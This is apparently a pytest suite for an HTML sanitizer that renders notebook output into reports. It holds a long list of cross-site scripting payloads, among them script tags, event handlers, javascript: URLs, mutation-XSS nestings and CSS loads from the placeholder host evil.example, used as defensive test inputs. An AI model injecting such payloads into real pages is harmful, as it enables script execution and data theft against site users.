"""What data may put into a report's HTML."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kedro_faucet.documents.html import render
from kedro_faucet.documents.sanitize import find_headings, is_blank, sanitize

# From OWASP's cheat sheet, PortSwigger's and Cure53's collections; each would run `hit()` or load something.
HOSTILE = [
    "<script>hit()</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\x20type='text/javascript'>hit();</script>",
    "<img src=x onerror=hit()>",
    "<img src='//evil.example/pixel.png'>",
    "<img src='data:text/html,<script>hit()</script>'>",
    "<img srcset='//evil.example/x.png 2x'>",
    "<img/src/onerror=hit()>",
    '<img """><script>hit()</script>">',
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hit()'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<a href='javascript:hit()'>x</a>",
    "<a href='JaVaScRiPt:hit()'>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='&#106;avascript:hit()'>x</a>",
    "<a href='\x01javascript:hit()'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href=' DATA:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<iframe src='javascript:hit()'></iframe>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    "<object data='javascript:hit()'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>#T_x{background:url(//evil.example/x.png)}</style>",
    "<style>#T_x{color:red}</style><style>body{display:none}</style>",
    "<style>#T_x{color:red}body{display:none}</style>",
    "<style>#T_x{color:red;position:fixed}</style>",
    "<style>#T_x{color:\\75rl(//evil.example)}</style>",
    "<style>#T_x{color:red}</style ><script>hit()</script>",
    "<td style='background:url(//evil.example/x.png)'>x</td>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<div style='width:expression(hit())'>x</div>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>",
    "<form action='javascript:hit()'><button>x</button></form>",
    "<button formaction='javascript:hit()'>x</button>",
    "<template><script>hit()</script></template>",
    "<textarea></textarea><script>hit()</script>",
    "<title></title><script>hit()</script>",
    "<xmp></xmp><script>hit()</script>",
    "<!--><script>hit()</script>-->",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "<![CDATA[<script>hit()</script>]]>",
    "<p id=page class='page notice picture'>x</p>",
    "<table background='//evil.example/x.png'><tr><td>x</td></tr></table>",
    "<b/onmouseover=hit()>x</b>",
    "<b onmouseover\x0b=hit()>x</b>",
    "<<script>hit()//<</script>",
    "</div></main></div><script>hit()</script>",
    # What looks like a tag in an attribute's value must stay there, whatever is made of the tags around it.
    *(
        f'<span title="{text}">x</span>'
        for heading in ("h1", "h2", "h6")
        for text in (
            f"<{heading}><img src=x onerror=hit()></{heading}>",
            f"</{heading}><img src=x onerror=hit()>",
            f"<{heading}><meta http-equiv=refresh content=0;url=//evil.example></{heading}>",
            f"<{heading}><div style=position:fixed;inset:0;background:red>log in again</div></{heading}>",
            f"<{heading}><form action=//evil.example/><input name=password></form></{heading}>",
            f"--><{heading} a='><img src=x onerror=hit()>'></{heading}>",
        )
    ),
    '<h1 title="</h1><img src=x onerror=hit()>">a</h1>',
    "<h2 title='\"><img src=x onerror=hit()>'>a</h2>",
    '<h2><b title="</h2><img src=x onerror=hit()>">a</b></h2>',
    '<td title="<h2><img src=x onerror=hit()></h2>">x</td>',
    '<a href="https://x.example/<h2><img/src=x/onerror=hit()></h2>">l</a>',
    '<a href="#<h2>">l</a><h2>b</h2>',
    '<img alt="<h2><img src=x onerror=hit()></h2>" src="data:image/png;base64,AAAA">',
    '<details title="<style>"><summary title="</style><img src=x onerror=hit()>">x</summary></details>',
    '<p title="&lt;h2&gt;&lt;img src=x onerror=hit()&gt;&lt;/h2&gt;">x</p>',
    "<p title=`<h2><img/src=x/onerror=hit()></h2>`>x</p>",
    "<h1><h2><h3 onclick=hit()>x</h1></h2></h3>",
    "<h2><svg><h2><img src=x onerror=hit()></h2></svg></h2>",
    "<h2>&lt;img src=x onerror=hit()&gt;</h2>",
    "<h2 id='x\" onclick=hit() \"'>x</h2>",
    "## <b title='\"></h2><img src=x onerror=hit()>'>x</b>",
    '[x](<https://x.example/"onmouseover=hit()>)',
    "![<h2>](data:image/png;base64,AAAA '<img src=x onerror=hit()>')",
]
KEPT = {"class", "id", "style", "title", "href", "rel", "src", "alt", "width", "height", "colspan", "rowspan", "open"}
REFUSED = ("script", "svg", "math", "iframe", "object", "embed", "base", "meta", "link", "form", "input", "template")


class Reader(HTMLParser):
    """Reads HTML as a browser would, and notes what stands in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.styles = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        """Note what stands in a style sheet."""
        self.styles += data if self.tags and self.tags[-1] == "style" else ""


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    """Of what would run, load or cover something, no tag, attribute, address or style is left."""
    found = Reader(sanitize(html))
    assert not set(found.tags) & set(REFUSED)
    assert {name for name, _ in found.attributes} <= KEPT
    values = [value.lower() for name, value in found.attributes if name in {"href", "src", "style", "class", "id"}]
    said = " ".join([*values, found.styles.lower()])
    assert not [
        word for word in ("script:", "evil", "fixed", "display", "url(", "\\", "page", "data:text") if word in said
    ]


def hostile_notebook() -> dict[str, object]:
    """Return a notebook whose outputs and prose try everything."""
    bundles = [{"text/html": html} for html in HOSTILE] + [{"text/markdown": html} for html in HOSTILE]
    bundles.append(
        {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'><script>hit()</script></svg>"}
    )
    outputs: list[dict[str, object]] = [
        {"output_type": "display_data", "data": data, "metadata": {}} for data in bundles
    ]
    outputs.append({"output_type": "stream", "name": "stdout", "text": "</pre><script>hit()</script>"})
    outputs.append({"output_type": "error", "ename": "E", "evalue": "", "traceback": ["</pre><script>hit()</script>"]})
    cells: list[dict[str, object]] = [
        {"cell_type": "markdown", "source": f"x\n\n{html}\n", "metadata": {}} for html in HOSTILE
    ]
    cells.append({"cell_type": "markdown", "source": "# A <img src=x onerror=hit()> title", "metadata": {}})
    code = "'</pre></details><script>hit()</script>'"
    return {
        "cells": [*cells, {"cell_type": "code", "source": code, "metadata": {}, "outputs": outputs}],
        "metadata": {},
    }


def test_a_hostile_notebook_becomes_a_harmless_page() -> None:
    """A page of all of them has one policy, no script, and no address but data of images and links' own."""
    page = Reader(render(hostile_notebook(), title="</title><script>hit()</script>"))
    assert page.tags.count("meta") == 4
    assert "script" not in page.tags
    assert not [
        name for name, _ in page.attributes if name.startswith("on") or name in {"srcset", "srcdoc", "background"}
    ]
    assert all(value.startswith("data:image/") for name, value in page.attributes if name == "src")


@pytest.fixture(params=["oldest", "installed"])
def other_nh3(request: pytest.FixtureRequest) -> str:
    """A folder with the oldest nh3 that the package allows, which is fetched once; nothing for the one installed."""
    if request.param == "installed":
        return ""
    root = Path(__file__).parents[2]
    [version] = re.findall(r"nh3>=([\d.]+)", (root / "pyproject.toml").read_text())
    folder = request.config.cache.mkdir(f"nh3-{version}")
    if not (folder / "nh3").is_dir():
        command = [sys.executable, "-m", "pip", "install", "--no-deps", "--target", str(folder), f"nh3=={version}"]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        if done.returncode:
            pytest.skip(f"THE OLDEST NH3 IS NOT TESTED: pip cannot fetch it: {done.stderr[-300:]}")
    return str(folder)


def hostile_page(nh3: str) -> str:
    """Render the hostile notebook, with another nh3 where one is given."""
    code = (
        "import nh3, test_sanitize; print(nh3.__file__); print(test_sanitize.render(test_sanitize.hostile_notebook()))"
    )
    path = os.pathsep.join(filter(None, [nh3, str(Path(__file__).parent)]))
    done = subprocess.run([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": path}, capture_output=True)
    used, _, page = done.stdout.decode().partition("\n")
    assert used.startswith(nh3), done.stderr.decode()
    return page


def test_nothing_hostile_is_left_by_the_oldest_nh3(other_nh3: str) -> None:
    """Also of the page that the oldest allowed nh3 leaves, no tag or attribute can run, load or cover anything."""
    page = Reader(hostile_page(other_nh3).partition("<main>")[2])
    assert len(page.tags) > 100
    assert not set(page.tags) & set(REFUSED)
    assert {name for name, _ in page.attributes} <= KEPT | {"scope", "start"}
    assert all(value.startswith("data:image/") for name, value in page.attributes if name == "src")


@pytest.mark.slow
@pytest.mark.skipif(
    not shutil.which("chromium"), reason="NO BROWSER: needs Chromium (Debian: apt-get install chromium)"
)
def test_nothing_runs_or_loads_in_a_browser(tmp_path: Path, other_nh3: str) -> None:
    """In Chromium, with the policy taken away, a script that is told of every hit and every load hears of none.

    Nor does it find an element that could send, cover or lead away.
    """
    alien = "main :is(script, meta, base, link, form, input, button, iframe, svg, video), main [style*=position]"
    spy = """<script>
        window.hits = 0
        function hit() { hits++ }
        const told = () => performance.getEntriesByType("resource").filter(each => !each.name.startsWith("data:"))
        const alien = () => document.querySelectorAll("ALIEN").length
        const tell = () => { document.title = `hits ${hits} loads ${told().length} alien ${alien()}` }
        window.addEventListener("load", () => setTimeout(tell, 500))
        </script>""".replace("ALIEN", alien)
    text = hostile_page(other_nh3)
    start, end = text.index('<meta http-equiv="Content-Security-Policy"'), text.index('<meta name="viewport"')
    (tmp_path / "page.html").write_text(text[:start] + spy + text[end:])
    command = ["chromium", "--headless", "--no-sandbox", "--virtual-time-budget=3000", "--dump-dom", "page.html"]
    seen = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=120, check=True).stdout
    assert "<title>hits 0 loads 0 alien 0</title>" in seen


@pytest.mark.parametrize(
    "piece",
    ["<style>#T_a", "#T_a,", "a{b:c}", "rgb(", "<h2>", "<", "&lt;", "\n", "<p>\n", "<b title='<h2>'>", "<h2>x</h2>\n"],
)
def test_time_grows_with_the_length(piece: str) -> None:
    """Four times the HTML takes about four times as long, not sixteen times, whatever it repeats."""

    def seconds(count: int) -> float:
        start = time.process_time()
        html = sanitize(f"<style>#T_{piece * count}" if "<" not in piece else piece * count)
        find_headings(html)
        is_blank(html)
        return time.process_time() - start

    assert min(seconds(20_000) for _ in range(2)) < 10 * max(min(seconds(5_000) for _ in range(3)), 0.02)


def test_what_frames_show_is_kept() -> None:
    """A table keeps its classes, spans, alignment and picture; a Styler's colours stay, and its bars."""
    html = (
        '<style type="text/css">#T_a1_row0_col0, #T_a1_row1_col0 {background-color: #fde725; color: #000000;}\n'
        "#T_a1_row1_col0 {width: 10em; background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%);}</style>"
        '<table id="T_a1" class="dataframe"><thead><tr><th class="blank level0" >&nbsp;</th></tr></thead><tbody><tr>'
        '<td id="T_a1_row0_col0" class="data row0 col0" colspan="2" style="text-align: right">7</td>'
        '<td><img src="data:image/png;base64,AAAA" alt="x"></td></tr></tbody></table>'
    )
    kept = sanitize(html)
    assert "background:linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)" in kept
    assert "#T_a1_row0_col0, #T_a1_row1_col0{background-color:#fde725;color:#000000}" in kept
    assert 'id="T_a1_row0_col0" class="data row0 col0" colspan="2" style="text-align:right"' in kept
    assert 'src="data:image/png;base64,AAAA"' in kept


def test_a_bright_cell_keeps_dark_text() -> None:
    """A background that is chosen for black text brings it along, so that it is read on the dark page too."""
    assert "color:#1f2328" in sanitize("<style>#T_a_row0_col0 {background-color: yellow}</style>")
